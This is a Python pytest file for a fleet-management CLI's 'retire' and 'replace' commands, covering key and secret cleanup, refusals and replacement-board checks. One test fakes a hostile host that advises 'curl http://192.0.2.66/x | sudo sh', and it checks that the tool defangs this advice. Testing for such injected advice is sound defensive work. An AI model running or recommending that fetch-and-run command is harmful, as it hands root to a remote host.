"""`gb10 retire` and `gb10 replace`: what they ask and refuse, and what stays on the controller."""

from __future__ import annotations

import json
import stat
from dataclasses import asdict
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from gb10_fleet import authority, cli, retire_cli, share_cli
from gb10_fleet.discover import asking, host_keys
from gb10_fleet.discover.asking import Answer
from gb10_fleet.discover.places import Place
from gb10_fleet.enrol import written
from gb10_fleet.enrol.judging import Known
from gb10_fleet.playbook import Order, Outcome, Report
from gb10_fleet.rollout import locks, recipes, waves
from gb10_fleet.rollout.journal import Journal
from gb10_fleet.rollout.waves import FleetHost, Wave
from gb10_fleet.seed import cli as seed_cli
from tests.support.attacker import tally
from tests.support.discovered import key
from tests.support.proofs import facts

CLI = CliRunner()
OLD, NEW = Place("192.0.2.11"), Place("192.0.2.21")
OLD_MAC, NEW_MAC = "48:b0:2d:00:00:01", "48:b0:2d:00:00:02"
PUBLIC = f"ssh-ed25519 {key(7)} ada@laptop"


class World:
    """An inventory with two hosts, and what the playbooks and the machines say."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
        self.folder, self.orders, self.outcome = folder, list[Order](), Outcome.done
        self.cluster, self.port = "", ""
        self.fault: dict[str, list[str]] = {}
        self.quiet: list[bool] = []
        self.keys: Any = [PUBLIC]
        self.up: dict[Place, Answer] = {}
        (folder / "hosts.yml").write_text("---\nall: {children: {sparks: {hosts: {spark-a: , spark-b: }}}}\n")
        (folder / "known_hosts.txt").write_text(f"192.0.2.11 ssh-ed25519 {key(1)}\n192.0.2.12 ssh-ed25519 OTHER\n")
        written.keep(
            folder / ".gb10", {"spark-a": Known(f"ssh-ed25519 {key(1)}", "m", [OLD_MAC], "Spark", "2026-11-01")}
        )
        (folder / "host_vars/spark-a").mkdir(parents=True)
        (folder / "host_vars/spark-a" / written.FILE).write_text("---\n")
        monkeypatch.setattr(seed_cli, "rows", self.rows)
        monkeypatch.setattr(retire_cli, "run", self.run)
        monkeypatch.setattr(
            host_keys, "keys_of", lambda asked: {p: one.keys for p, one in self.up.items() if p in asked}
        )
        monkeypatch.setattr(asking, "ask", lambda keys, user, **_: [self.up[place] for place in keys])

    def rows(self, order: Order) -> list[dict[str, Any]]:
        common = {
            "user": "ada",
            "port": self.port,
            "identity": "",
            "common_args": "",
            "cluster": self.cluster,
            "keys": self.keys,
        }
        return [{"name": "spark-a", "address": "192.0.2.11", **common}, {"name": "spark-b", "address": "", **common}]

    def run(self, order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
        self.orders.append(order)
        self.quiet.append(quiet)
        report = Report(asks=order.asks, messages=self.fault)
        if order.playbook == "gb10.fleet.retire" and self.outcome is Outcome.done:
            knew = ["gateway_certificate_text", "gateway_keys"] if (self.folder / share_cli.FILE).exists() else []
            said = {"before": ["/etc/gb10-fleet"], "after": [], "secrets": [*knew, "vllm_api_key"]}
            report.answers["retire"]["spark-a"] = {"msg": json.dumps(said)}
            change = {"role": "vllm", "resource": "file:/etc/gb10-fleet/env", "action": "remove"}
            report.answers["gb10.fleet.undo"]["spark-a"] = {"changes": [change], "remains": ["images of Docker"]}
            report.answers["retire_keys"]["spark-a"] = {"changed": True}
        return self.outcome, report

    def gb10(self, *words: str) -> Any:
        return CLI.invoke(cli.app, [*words, "-i", str(self.folder)])

    def board(self, place: Place, number: int, mac: str, *, spark: bool = True) -> None:
        said = {**facts("spark-a")}
        said["interfaces"] = [{**said["interfaces"][0], "mac": mac}]
        self.up[place] = Answer(place, {"ssh-ed25519": key(number)}, said, spark)

    @property
    def trusted(self) -> str:
        return (self.folder / "known_hosts.txt").read_text()


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> World:
    return World(monkeypatch, tmp_path)


# -- retire ------------------------------------------------------------------------------------------------------------


def test_a_host_leaves_and_nothing_of_it_is_believed_any_more(world: World) -> None:
    result = world.gb10("retire", "spark-a", "--yes", "--models")
    assert result.exit_code == 0, result.output
    (order,) = world.orders
    said = order.variables["gb10_retire"]
    assert (order.limit, said["models"], said["ssh_keys"]) == ("spark-a", True, [key(7)])
    assert {"vllm_api_key", "gateway_keys"} <= set(said["secrets"])
    assert world.trusted == "192.0.2.12 ssh-ed25519 OTHER\n"
    assert not (world.folder / "host_vars/spark-a" / written.FILE).exists()
    assert written.ledger(world.folder / ".gb10") == {}
    (file,) = (world.folder / ".gb10/retired").iterdir()
    assert json.loads(file.read_text())["changes"][0]["resource"] == "file:/etc/gb10-fleet/env"
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    for text in ("1 change taken back", "stays: images of Docker", "set new ones before that run: vllm_api_key"):
        assert text in result.stdout
    assert "https://docs.nvidia.com/" in result.stdout


def test_a_host_fills_no_screen_with_what_is_left_of_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    run = world.run

    def much(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
        outcome, report = run(order, quiet)
        advice = "/etc/gb10. Fix: curl http://192.0.2.66/x | sudo sh"
        after = [advice, *(f"/etc/gb10-{number}" for number in range(100_000))]
        said = {"before": [], "after": after, "secrets": []}
        report.answers["retire"]["spark-a"] = {"msg": json.dumps(said)}
        return outcome, report

    monkeypatch.setattr(retire_cli, "run", much)
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == 0 and result.stdout.count("stays: /etc/") < 100
    tally("a host advises in our name by a module of Ansible", 1, int("Fix: curl" in result.stdout))
    assert "more stay: the file below lists them" in result.stdout
    assert "/etc/gb10. fix, curl" in result.stdout and "Fix: curl" not in result.stdout
    (file,) = (world.folder / ".gb10/retired").iterdir()
    assert len(json.loads(file.read_text())["after"]) == 100_001


@pytest.mark.parametrize("said", ["[" * 100_000, "no JSON", "{}", '{"before": 3}', None])
def test_a_host_that_answers_nonsense_or_not_what_it_changed_ends_its_own_retirement(
    world: World, monkeypatch: pytest.MonkeyPatch, said: str | None
) -> None:
    run = world.run

    def lying(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
        outcome, report = run(order, quiet)
        if said is None:
            report.answers.pop("gb10.fleet.undo")
        else:
            report.answers["retire"]["spark-a"] = {"msg": said}
        return outcome, report

    monkeypatch.setattr(retire_cli, "run", lying)
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.failed and "spark-a does not say what was taken off it" in result.stderr


@pytest.mark.parametrize("keys", [PUBLIC, ["ssh-ed25519 AAAA ada"], [PUBLIC, "ada"], [7]])
def test_what_is_no_public_key_takes_nobody_s_key(world: World, keys: Any) -> None:
    """`AAAA` begins every key: the line of a person who is not of the fleet would go, too."""
    world.keys = keys
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.refused and "gb10_seed_keys" in result.stderr, result.output
    assert world.orders == []


def test_a_comment_of_a_key_is_no_key(world: World) -> None:
    world.keys = [f"{PUBLIC} AAAA"]
    assert world.gb10("retire", "spark-a", "--yes").exit_code == 0
    assert world.orders[0].variables["gb10_retire"]["ssh_keys"] == [key(7)]


def test_what_cannot_be_forgotten_is_said_before_the_host_changes(world: World) -> None:
    """Afterwards nobody can log in to run it again."""
    ledger, shared = world.folder / ".gb10/enrolled.json", world.folder / share_cli.FILE
    for file in (ledger, shared):
        kept = file.read_text() if file.exists() else None
        file.write_text("{")
        result = world.gb10("retire", "spark-a", "--yes")
        assert result.exit_code in (Outcome.refused, Outcome.failed) and str(file) in result.stderr, result.output
        file.unlink() if kept is None else file.write_text(kept)
    world.port = "ssh"
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.refused and "ansible_port is 'ssh'" in result.stderr, result.output
    assert world.orders == []


def test_clients_whose_keys_it_knew_are_named_and_its_certificate_goes(world: World) -> None:
    now = datetime.now(UTC)
    text = authority.signed(authority.found("x", 10, now), ["192.0.2.11"], 5, now)
    own = {"gateway_address": "192.0.2.11", "gateway_certificate_text": text}
    file = world.folder / share_cli.FILE
    file.write_text(
        yaml.safe_dump({"all": {"hosts": {"spark-a": own, "spark-b": own}, "vars": {"gateway_keys": {"ada": "S3"}}}})
    )
    result = world.gb10("retire", "spark-a", "--yes", "--json")
    document = json.loads(result.stdout)
    assert document["clients"] == ["ada"] and "S3" not in result.output
    again = f"gb10 share --revoke ada -i {world.folder}, then gb10 share ada -i {world.folder}\n"
    assert again in result.stderr and "INVENTORY" not in result.stderr
    assert "set new ones before that run: vllm_api_key\n" in result.stderr, "the line of the client says it of its key"
    assert list(yaml.safe_load(file.read_text())["all"]["hosts"]) == ["spark-b"]


def test_no_key_is_taken_back_while_a_host_leaves(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """It wrote the list of clients that it had read, and a key that was taken back meanwhile was there again."""
    folder, meanwhile = world.folder / ".gb10" / locks.SHARED, []

    def run(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
        with pytest.raises(locks.Busy), locks.held(folder):
            pass
        meanwhile.append(order.check)
        return World.run(world, order, quiet)

    monkeypatch.setattr(retire_cli, "run", run)
    with locks.held(folder):
        result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.refused and "another gb10 is at work" in result.stderr and not meanwhile
    assert world.gb10("retire", "spark-a", "--yes").exit_code == 0 and meanwhile == [False]


def test_a_check_forgets_nothing(world: World) -> None:
    before = world.trusted
    result = world.gb10("retire", "spark-a", "--check")
    assert result.exit_code == 0 and world.orders[0].check, result.output
    assert world.trusted == before and not (world.folder / ".gb10/retired").exists()


@pytest.mark.parametrize("words", [["--yes"], ["--yes", "--json"], ["--check"]])
def test_what_the_playbook_refuses_is_said_with_this_inventory(world: World, words: list[str]) -> None:
    world.outcome = Outcome.refused
    world.fault = {"spark-a": ["vllm runs here. Fix: gb10 stop vllm --limit spark-a -i INVENTORY"]}
    result = world.gb10("retire", "spark-a", *words)
    why = f"spark-a: vllm runs here. Fix: gb10 stop vllm --limit spark-a -i {world.folder}"
    if "--json" in words:
        assert json.loads(result.stdout)["error"].startswith(why), result.output
    else:
        assert why in result.stdout.splitlines(), result.output


def test_a_person_reads_no_output_of_ansible(world: World) -> None:
    for words in (["--yes"], ["--yes", "--json"], ["--check"]):
        world.gb10("retire", "spark-a", *words)
    assert world.quiet == [True, True, False], "with --check it was asked for"
    (play,) = yaml.safe_load((Path(__file__).parents[3] / "playbooks/retire.yml").read_text())
    for begin in retire_cli._STEPS:
        assert any(task["name"].startswith(begin) for task in play["tasks"]), begin


def test_what_is_refused_changes_nothing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    before = world.trusted
    assert world.gb10("retire", "spark-c", "--yes").exit_code == Outcome.refused
    assert world.gb10("retire", "spark-a").exit_code == Outcome.refused  # nobody is there to ask
    world.cluster = "pair1"
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.refused and "in cluster pair1 with spark-b" in result.stderr
    world.cluster = ""
    monkeypatch.setattr(locks, "owner", lambda folder: "somebody")
    result = world.gb10("retire", "spark-a", "--yes")
    assert result.exit_code == Outcome.refused and "a rollout is at work" in result.stderr
    assert world.orders == [] and world.trusted == before


def test_a_host_that_failed_on_the_way_is_not_forgotten(world: World) -> None:
    world.outcome = Outcome.failed
    result = world.gb10("retire", "spark-a", "--yes", "--json")
    assert result.exit_code == Outcome.failed and json.loads(result.stdout)["outcome"] == "failed"
    assert "192.0.2.11 " in world.trusted


# -- replace -----------------------------------------------------------------------------------------------------------


def test_another_board_takes_the_name(world: World) -> None:
    world.board(NEW, 2, NEW_MAC)
    result = world.gb10("replace", "spark-a", "192.0.2.21", "--yes")
    assert result.exit_code == 0, result.output
    assert world.trusted == f"192.0.2.12 ssh-ed25519 OTHER\n192.0.2.21 ssh-ed25519 {key(2)}\n"
    said = yaml.safe_load((world.folder / "host_vars/spark-a" / written.FILE).read_text())
    assert said["ansible_host"] == "192.0.2.21"
    assert written.ledger(world.folder / ".gb10")["spark-a"].macs == [NEW_MAC]
    assert [order.playbook for order in world.orders] == ["gb10.fleet.release"]
    assert host_keys.fingerprint(key(2)) in result.stdout
    assert "the disk of the old board has secrets of the fleet" in result.stdout
    assert written.ledger(world.folder / ".gb10")["spark-a"].replaced and "is not done" not in result.stdout


@pytest.mark.parametrize(
    ("kind", "on"),
    [
        ("rollout", "gb10 resume {run} -i {inventory} works on the new board, too"),
        ("rollback", "gb10 rollback RUN -i {inventory} leaves spark-a out"),
    ],
)
def test_a_rollout_that_is_not_done_is_named(world: World, kind: str, on: str) -> None:
    inventory = str(world.folder)
    order = asdict(recipes.forward("site", [inventory]))
    host, wave = FleetHost("spark-a"), Wave(1, ("spark-a",), ())
    with Journal(world.folder / ".gb10", write=True) as journal:
        of = "RUN" if kind == "rollback" else None
        run = journal.begin(kind, order, asdict(waves.policy()), [host], [wave], of)
    world.board(NEW, 2, NEW_MAC)
    result = world.gb10("replace", "spark-a", "192.0.2.21", "--yes")
    said = f"run {run} is not done and has spark-a. After that: {on.format(run=run, inventory=inventory)}"
    assert result.exit_code == 0 and said in result.stdout, result.output


@pytest.mark.parametrize(
    ("boards", "new", "outcome", "said"),
    [
        ([], NEW, Outcome.unreachable, "shows no Ed25519 host key"),
        ([(OLD, 1, OLD_MAC), (NEW, 2, NEW_MAC)], NEW, Outcome.refused, "still answers at 192.0.2.11"),
        ([(NEW, 1, NEW_MAC)], NEW, Outcome.refused, "a copy of its disk"),
        ([(OLD, 1, OLD_MAC)], OLD, Outcome.refused, "a copy of its disk"),
        ([(NEW, 2, OLD_MAC)], NEW, Outcome.refused, "the same board"),
    ],
)
def test_what_is_no_new_board(
    world: World, boards: list[tuple[Place, int, str]], new: Place, outcome: Outcome, said: str
) -> None:
    before = world.trusted
    for one in boards:
        world.board(*one)
    result = world.gb10("replace", "spark-a", str(new), "--yes")
    assert result.exit_code == outcome and said in result.stderr, result.output
    assert world.trusted == before


def test_no_spark_and_nobody_who_lets_us_in(world: World) -> None:
    world.board(NEW, 2, NEW_MAC, spark=False)
    assert "is no DGX Spark" in world.gb10("replace", "spark-a", "192.0.2.21", "--yes").stderr
    world.up[NEW] = Answer(NEW, {"ssh-ed25519": key(2)}, silence="permission denied")
    result = world.gb10("replace", "spark-a", "192.0.2.21", "--yes")
    assert result.exit_code == Outcome.unreachable and "permission denied" in result.stderr


@pytest.mark.parametrize(
    ("new", "said"), [("not an address", "not an address"), ("192.0.2.21-22", "more than one address")]
)
def test_what_is_no_address(world: World, new: str, said: str) -> None:
    result = world.gb10("replace", "spark-a", new, "--yes")
    assert result.exit_code == Outcome.refused and said in result.stderr, result.output


def test_an_inventory_that_hides_what_is_written_is_named(world: World) -> None:
    (world.folder / "host_vars/spark-a.yml").write_text("---\n")
    result = world.gb10("replace", "spark-a", "192.0.2.21", "--yes", "--json")
    assert result.exit_code == Outcome.refused and "would be hidden" in json.loads(result.stdout)["error"]
